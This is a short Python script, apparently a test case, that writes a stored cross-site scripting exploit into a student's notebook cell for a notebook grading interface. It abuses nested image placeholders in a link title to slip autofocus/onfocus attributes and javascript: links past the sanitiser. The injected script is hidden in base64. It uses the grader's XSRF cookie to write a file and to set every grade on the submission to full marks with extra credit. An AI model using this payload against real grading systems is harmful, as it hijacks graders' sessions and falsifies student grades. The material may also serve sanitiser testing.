"""Nests a placeholder for a picture into another, in a link's title, so that one is left behind.

A picture that is put back there ends the title's quotes, and its description becomes attributes of
the link, which take the focus and run a script. Nothing is put into HTML after it was sanitised.
"""

import base64

SCRIPT = """
document.title = 'dgm-attack';
const api = (path, method, body) => fetch(base_url + '/../' + path, {
  method, headers: {'X-XSRFToken': getCookie('_xsrf'), 'Content-Type': 'application/json'},
  body: body && JSON.stringify(body)});
api('api/contents/dgm-attack.txt', 'PUT', {type: 'file', format: 'text', content: 'dgm-attack'});
api('formgrader/api/grades?submission_id=' + submission_id, 'GET').then(got => got.json()).then(
  grades => grades.forEach(grade => api('formgrader/api/grade/' + grade.id, 'PUT',
    {manual_score: grade.max_score, extra_credit: 1})));
"""
CALL = f"eval(atob('{base64.b64encode(SCRIPT.encode()).decode()}'))"
PLACE = "\ue000\ue0000\ue0010\ue001"
TEXT = f"""<!-- answer: why-step -->
![ autofocus onfocus={CALL} tabindex=1 ](data:image/png;base64,iVBORw0KGgo=)

[a link](https://example.org "{PLACE}") and ![x "{PLACE}](data:image/png;base64,{PLACE})

[another](files/javascript:{CALL}) [third](</files/javascript:{CALL}> "href=files/{PLACE}")
"""


def edit(notebook):
    next(cell for cell in notebook.cells if cell.id == "why-step").source = TEXT
